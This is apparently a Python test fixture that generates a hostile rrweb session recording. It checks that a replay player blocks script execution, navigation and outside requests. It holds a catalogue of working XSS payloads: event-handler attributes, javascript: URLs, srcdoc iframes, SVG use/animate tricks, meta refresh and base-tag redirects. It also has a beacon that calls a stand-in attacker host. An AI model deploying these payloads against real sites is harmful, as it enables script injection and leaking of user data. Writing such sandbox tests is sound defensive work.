"""A recording crafted by a hostile visitor: every way a page could try to run script, load
another page or reach its own server from inside a replay, in the full snapshot and again in
mutations later in time."""

from __future__ import annotations

import itertools
from typing import Any

ATTACKER = "https://attacker.example"
# What each payload tries: set the sentinel in the replay frame, its parent and the top page,
# open a dialog, tell the console, and call home.
RUN = (
    "top.pwned=1;parent.pwned=1;window.pwned=1;console.log('PWNED');"
    f"new Image().src='{ATTACKER}/ran';alert(1)"
)
JS_URL = f"javascript:{RUN}"
# An SVG document whose script and handler would run if <use> loaded and ran it.
SVG_DOC = (
    "data:image/svg+xml;charset=utf-8,"
    "%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Etop.pwned=1%3C/script%3E"
    "%3Cimage href='x' onerror='top.pwned=1'/%3E%3C/svg%3E#x"
)
BROKEN_IMAGE = "data:image/png;base64,AAAA"  # fails to decode: onerror without any request
TINY_GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


class Nodes:
    """Builds rrweb serialized nodes with unique ids."""

    def __init__(self, start: int = 1) -> None:
        self.ids = itertools.count(start)

    def el(
        self,
        tag: str,
        attrs: dict[str, Any] | None = None,
        children: list[dict[str, Any]] | None = None,
        svg: bool = False,
    ) -> dict[str, Any]:
        node: dict[str, Any] = {
            "type": 2,
            "tagName": tag,
            "attributes": attrs or {},
            "childNodes": children or [],
            "id": next(self.ids),
        }
        if svg:
            node["isSVG"] = True
        return node

    def text(self, value: str) -> dict[str, Any]:
        return {"type": 3, "textContent": value, "id": next(self.ids)}


def head_payloads(n: Nodes, tag: str) -> list[dict[str, Any]]:
    return [
        n.el("meta", {"http-equiv": "refresh", "content": f"0;url={ATTACKER}/refresh-{tag}"}),
        n.el("base", {"href": f"{ATTACKER}/base-{tag}/", "target": "_top"}),
        n.el("script", {}, [n.text(RUN)]),
        n.el("script", {"src": f"{ATTACKER}/script-{tag}.js"}),
        n.el("link", {"rel": "preload", "as": "script", "href": f"{ATTACKER}/preload-{tag}.js"}),
    ]


def body_payloads(n: Nodes, tag: str) -> list[dict[str, Any]]:
    """Every payload once; `tag` tells the copies apart (ids in the page, attacker paths)."""
    svg = True
    return [
        n.el("h1", {"id": f"title-{tag}"}, [n.text(f"Hostile page ({tag})")]),
        n.el("script", {}, [n.text(RUN)]),
        n.el("img", {"id": f"img-onerror-{tag}", "src": BROKEN_IMAGE, "onerror": RUN}),
        n.el("img", {"id": f"img-onload-{tag}", "src": TINY_GIF, "onload": RUN}),
        # Resolved against <base href> if the base were honoured: a request to the attacker.
        n.el("img", {"id": f"img-relative-{tag}", "src": f"relative-{tag}.png"}),
        n.el("a", {"id": f"js-link-{tag}", "href": JS_URL}, [n.text("javascript: link")]),
        n.el(
            "a",
            {"id": f"attacker-link-{tag}", "href": f"{ATTACKER}/link-{tag}"},
            [n.text("a link to the attacker")],
        ),
        n.el(
            "a",
            {"id": f"top-link-{tag}", "href": f"{ATTACKER}/top-{tag}", "target": "_top"},
            [n.text("a link out of the frame")],
        ),
        n.el(
            "a",
            {"id": f"blank-link-{tag}", "href": f"{ATTACKER}/blank-{tag}", "target": "_blank"},
            [n.text("a link to a new window")],
        ),
        n.el(
            "iframe",
            {
                "id": f"srcdoc-{tag}",
                "srcdoc": f'<script>{RUN}</script><img src=x onerror="{RUN}">'
                f'<meta http-equiv="refresh" content="0;url={ATTACKER}/srcdoc-refresh-{tag}">',
            },
        ),
        n.el("iframe", {"id": f"js-frame-{tag}", "src": JS_URL}),
        n.el("iframe", {"id": f"attacker-frame-{tag}", "src": f"{ATTACKER}/frame-{tag}"}),
        n.el("object", {"data": f"{ATTACKER}/object-{tag}"}),
        n.el("embed", {"src": f"{ATTACKER}/embed-{tag}"}),
        n.el(
            "form",
            {"id": f"form-{tag}", "action": f"{ATTACKER}/form-{tag}", "method": "post"},
            [
                n.el("input", {"id": f"form-input-{tag}", "name": "q", "value": "x"}),
                n.el("button", {"id": f"form-submit-{tag}", "type": "submit"}, [n.text("Send")]),
            ],
        ),
        n.el(
            "form",
            {"id": f"js-form-{tag}", "action": JS_URL},
            [
                n.el("button", {"id": f"js-form-submit-{tag}"}, [n.text("Go")]),
                n.el(
                    "button",
                    {"id": f"formaction-{tag}", "formaction": JS_URL},
                    [n.text("Go elsewhere")],
                ),
            ],
        ),
        n.el("input", {"id": f"autofocus-{tag}", "autofocus": True, "onfocus": RUN}),
        n.el("details", {"open": True, "ontoggle": RUN}, [n.el("summary", {}, [n.text("more")])]),
        n.el("video", {}, [n.el("source", {"src": BROKEN_IMAGE, "onerror": RUN})]),
        n.el(
            "svg",
            {"id": f"svg-{tag}", "onload": RUN, "width": "40", "height": "40"},
            [
                n.el("script", {}, [n.text(RUN)], svg),
                n.el("use", {"href": SVG_DOC}, [], svg),
                n.el("use", {"xlink:href": SVG_DOC}, [], svg),
                n.el(
                    "a",
                    {"id": f"svg-link-{tag}", "href": JS_URL},
                    [n.el("text", {"y": "20"}, [n.text("svg link")], svg)],
                    svg,
                ),
                n.el(
                    "animate",
                    {"attributeName": "href", "values": JS_URL, "begin": "0s"},
                    [],
                    svg,
                ),
                n.el("set", {"attributeName": "onload", "to": RUN}, [], svg),
            ],
            svg,
        ),
    ]


def snapshot(ts: int, n: Nodes) -> tuple[dict[str, Any], dict[str, int]]:
    """The full snapshot; returns it and the ids the later mutations aim at."""
    head = n.el("head", {}, head_payloads(n, "snapshot"))
    body_nodes = body_payloads(n, "snapshot")
    target_link = n.el("a", {"id": "harmless-link", "href": "#top"}, [n.text("harmless link")])
    target_img = n.el("img", {"id": "harmless-img", "src": TINY_GIF})
    target_frame = n.el("iframe", {"id": "harmless-frame"})
    target_form = n.el("form", {"id": "harmless-form"}, [n.el("button", {}, [n.text("OK")])])
    target_input = n.el("input", {"id": "harmless-input", "onfocus": RUN})
    body = n.el(
        "body",
        {"style": "font: 16px sans-serif; background: #fff7ed", "onload": RUN, "onpageshow": RUN},
        [*body_nodes, target_link, target_img, target_frame, target_form, target_input],
    )
    html = n.el("html", {}, [head, body])
    event = {
        "type": 2,
        "data": {
            "node": {"type": 0, "childNodes": [html], "id": 1},
            "initialOffset": {"left": 0, "top": 0},
        },
        "timestamp": ts,
    }
    ids = {
        "head": head["id"],
        "body": body["id"],
        "link": target_link["id"],
        "img": target_img["id"],
        "frame": target_frame["id"],
        "form": target_form["id"],
        "input": target_input["id"],
    }
    return event, ids


def flat_adds(parent_id: int, nodes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """rrweb's mutations add each node on its own, after its parent (children are not
    nested in an added node)."""
    adds: list[dict[str, Any]] = []
    for node in nodes:
        children = node.get("childNodes", [])
        adds.append({"parentId": parent_id, "nextId": None, "node": {**node, "childNodes": []}})
        adds.extend(flat_adds(node["id"], children))
    return adds


def mutation(ts: int, **data: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": []}
    return {"type": 3, "data": {**base, **data}, "timestamp": ts}


def mouse(ts: int, x: int, y: int, node_id: int) -> dict[str, Any]:
    return {
        "type": 3,
        "data": {"source": 1, "positions": [{"x": x, "y": y, "id": node_id, "timeOffset": 0}]},
        "timestamp": ts,
    }


def interaction(ts: int, kind: int, node_id: int) -> dict[str, Any]:
    return {
        "type": 3,
        "data": {"source": 2, "type": kind, "id": node_id, "x": 10, "y": 10},
        "timestamp": ts,
    }


def events(start: int) -> list[dict[str, Any]]:
    """Six seconds: the hostile page, more payloads added at 2 s, hostile attributes set on
    harmless elements at 3 s, focus/clicks replayed on them, and mouse moves throughout."""
    n = Nodes(start=2)
    full, ids = snapshot(start + 1, n)
    adds = flat_adds(ids["head"], head_payloads(n, "added")) + flat_adds(
        ids["body"], body_payloads(n, "added")
    )
    out = [
        {
            "type": 4,
            "data": {"href": "https://alice.example/", "width": 1280, "height": 720},
            "timestamp": start,
        },
        full,
        mouse(start + 1000, 200, 200, ids["body"]),
        mutation(start + 2000, adds=adds),
        mutation(
            start + 3000,
            attributes=[
                {"id": ids["link"], "attributes": {"href": JS_URL, "onclick": RUN}},
                {"id": ids["img"], "attributes": {"src": BROKEN_IMAGE, "onerror": RUN}},
                {"id": ids["frame"], "attributes": {"srcdoc": f"<script>{RUN}</script>"}},
                {"id": ids["form"], "attributes": {"action": f"{ATTACKER}/form-mutated"}},
                {"id": ids["body"], "attributes": {"onfocus": RUN}},
            ],
        ),
        # The visitor "typed" a javascript: URL into the input.
        {
            "type": 3,
            "data": {"source": 5, "id": ids["input"], "text": JS_URL, "isChecked": False},
            "timestamp": start + 3500,
        },
        interaction(start + 3600, 5, ids["input"]),  # Focus: rrweb focuses the element
        interaction(start + 3700, 1, ids["link"]),  # MouseDown
        interaction(start + 3800, 2, ids["link"]),  # Click
        interaction(start + 3900, 4, ids["link"]),  # DblClick
        mouse(start + 4500, 300, 300, ids["body"]),
        mouse(start + 6000, 400, 300, ids["body"]),
    ]
    return out
